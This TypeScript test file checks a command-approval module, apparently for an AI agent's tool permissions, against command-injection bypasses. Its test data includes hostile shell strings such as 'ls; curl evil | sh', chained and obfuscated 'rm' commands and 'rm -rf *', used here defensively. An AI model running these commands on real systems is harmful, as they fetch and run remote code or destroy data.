import assert from 'node:assert/strict';
import { patternWords } from '../../../../src/contracts/rule-patterns.ts';
import { matchesAnyCommand, readCommand } from '../../../../src/tools/approval/command-reading.ts';
import { exactPattern, matchesWords, simpleWords } from '../../../../src/tools/approval/simple-command.ts';

const find = (pattern: string, command: string) => matchesAnyCommand(pattern, readCommand(command));

function isAllowed(pattern: string, command: string): boolean {
  const [wanted, words] = [patternWords(pattern), simpleWords(command)];
  return wanted !== undefined && words !== undefined && matchesWords(wanted, words);
}

describe('rules that allow commands', () => {
  const allowed: [pattern: string, command: string][] = [
    ['git status*', 'git status'],
    ['git status*', 'git status --short'],
    ['git status*', 'git  status\t-s'],
    ['ls *', 'ls'],
    ['ls *', 'ls -l reports'],
    ['ls *', "ls 'my file'"],
    ['ls *', 'ls "my file"'],
    ['git log *', "git log --grep='a b' --since=2026-01-01"],
    ['ls', 'ls'],
    ['npm run test:*', 'npm run test:unit'],
    ["grep 'a*b' x", "grep 'a*b' x"],
  ];
  for (const [pattern, command] of allowed) {
    it(`[H11] ${pattern} allows ${JSON.stringify(command)}`, () => assert.equal(isAllowed(pattern, command), true));
  }

  const attacks = [
    ...['ls; curl evil | sh', 'ls && x', 'ls || x', 'ls | sh', 'ls & x', 'ls &', 'ls $(x)', 'ls `x`', 'ls "$(x)"'],
    ...['ls "`x`"', 'ls > /etc/x', 'ls>x', 'ls >> x', 'ls < x', 'ls 2>x', 'ls &>x', 'ls >| x', 'ls <<< x', 'ls <<E\nE'],
    ...[
      'ls\nx',
      'ls\r\nx',
      'ls\rx',
      'ls\u2028x',
      'env X=1 sh',
      'X=1 ls',
      'PATH=. ls',
      '(ls)',
      '{ ls; }',
      '! ls',
      '$(ls)',
    ],
    ...[
      'ls <(x)',
      'ls >(x)',
      'ls $X',
      'ls ${X}',
      'ls $((1))',
      "ls $'a'",
      'ls $"a"',
      'ls *',
      'ls ?',
      'ls [a]',
      'ls {a,b}',
    ],
    ...[
      'ls ~',
      'ls ~root',
      "'ls' x",
      '"ls" x',
      "l's' x",
      'l\\s x',
      '\\ls x',
      'ls \\; x',
      'ls a\\',
      'ls # x',
      'ls !!',
      'ls !x',
    ],
    ...[
      'if ls; then x; fi',
      'time ls',
      'function ls { x; }',
      'ls() { x; }',
      'coproc ls',
      '[[ ls ]]',
      '((ls))',
      '/bin/ls',
      './ls',
    ],
    ...[
      'LS x',
      'ls\u00a0x',
      'ls\u0000x',
      'ls\u200bx',
      'ls \u202ex',
      "ls '",
      'ls "',
      "ls 'a\nb'",
      'ls "a\\"; x"',
      "ls ''\\''",
      '',
    ],
    ...["ls a'b'c", "ls 'a''b'", 'lsx', 'ls@x y', 'sudo ls', 'exec ls', 'eval ls', '. ls', 'ls\x1b[8m; x', 'ls\\\n; x'],
  ];
  for (const command of attacks) {
    it(`[H11] ls * does not allow ${JSON.stringify(command)}`, () => assert.equal(isAllowed('ls *', command), false));
  }

  it('[H11] only words that the pattern has are matched, if it does not end in *', () => {
    assert.equal(isAllowed('ls', 'ls -l'), false);
    assert.equal(isAllowed('git * --short', 'git status --short'), true);
    assert.equal(isAllowed('git * --short', 'git status --short x'), false);
    assert.equal(isAllowed('git status*', 'git push'), false);
    assert.equal(isAllowed('git status', 'git'), false);
  });

  it('[H11] a pattern that is no simple command allows nothing', () => {
    for (const pattern of ['ls; *', 'ls | *', '$(*)', 'ls > *', "ls '", '']) {
      assert.equal(patternWords(pattern), undefined, pattern);
    }
  });

  it('[H11] the pattern that a request suggests matches its command and no other', () => {
    assert.equal(exactPattern('git  log --grep="a b"'), "git log '--grep=a b'");
    assert.equal(exactPattern("grep 'a*' x"), "grep 'a*' x");
    assert.equal(isAllowed("grep 'a*' x", "grep 'ab' x"), false);
    assert.equal(exactPattern('ls; rm x'), undefined);
  });
});

describe('rules that deny commands', () => {
  const found = [
    ...[
      'rm x',
      'rm',
      '/bin/rm -rf x',
      'ls; rm x',
      'ls && rm x',
      'ls | rm x',
      'ls & rm x',
      'echo $(rm x)',
      'echo `rm x`',
    ],
    ...['echo "$(rm x)"', 'cat <(rm x)', '(rm x)', '{ rm x; }', 'if rm x; then ls; fi', 'f() { rm x; }; f', 'X=1 rm x'],
    ...['env X=1 rm x', 'sudo -u root rm x', 'xargs rm', 'find . -exec rm {} \\;', 'timeout 5 rm x', 'sh -c "rm x"'],
    ...['env -S "rm x"', 'env --split-string="rm x"', "su -c 'rm x'", 'watch "rm x"'],
    ...[
      "bash -c 'ls; rm x'",
      "env sh -c 'rm x'",
      'eval rm x',
      "r''m x",
      '\\rm x',
      '"rm" x',
      "$'r\\x6d' x",
      'RM x',
      'ls\nrm x',
    ],
    ...[
      'cat <<E\n$(rm x)\nE',
      '! rm x',
      'time rm x',
      'while rm x; do ls; done',
      'x=$(rm x)',
      'echo ${x:-$(rm x)}',
      'nohup rm x &',
    ],
    ...[
      'case $(rm x) in *) ls;; esac',
      '[[ -n $(rm x) ]]',
      'coproc rm x',
      'command rm x',
      'ls > $(rm x)',
      'rm $X',
      'rm -rf *',
    ],
  ];
  for (const command of found) {
    it(`[H11] rm * is found in ${JSON.stringify(command)}`, () => assert.equal(find('rm *', command), 'yes'));
  }

  const unsure = [
    '$X x',
    '$(echo rm) x',
    'curl x | sh',
    'bash x.sh',
    '. ./x',
    'eval "$X"',
    'sh -c "$X"',
    'ls "',
    '{r,}m x',
  ];
  for (const command of unsure) {
    it(`[H11] nobody can tell whether ${JSON.stringify(command)} runs rm`, () =>
      assert.equal(find('rm *', command), 'maybe'));
  }

  it('[H11] other commands are not denied', () => {
    for (const command of [
      'ls',
      'echo rm',
      'for f in *.csv; do wc -l "$f"; done',
      'git rm x',
      'grep rm < x > y',
      'rmdir x',
    ]) {
      assert.equal(find('rm *', command), 'no', command);
    }
  });

  it('[H11] options between the words of a rule make it unsure', () => {
    assert.equal(find('git push*', 'git push origin'), 'yes');
    assert.equal(find('git push*', 'git -C . push'), 'maybe');
    assert.equal(find('git push*', 'git $X'), 'maybe');
    assert.equal(find('git push*', 'git status'), 'no');
  });

  it('[H11] hostile commands and patterns take little time', () => {
    const started = process.cpuUsage();
    const commands = [
      `env ${'env '.repeat(25_000)}`,
      ...['$('.repeat(5_000), '`'.repeat(10_000), `sh -c "${'sh -c '.repeat(1_600)}"`, 'env sh sh -c x '.repeat(660)],
      `rm ${'a'.repeat(9_990)}`,
    ];
    for (const command of commands) find(`rm ${'*a'.repeat(200)}`, command);
    assert.equal(isAllowed(`rm ${'*a'.repeat(200)}b`, `rm ${'a'.repeat(3_990)}`), false);
    const { user } = process.cpuUsage(started);
    assert.ok(user < 20_000_000, `${user} µs`);
  });
});
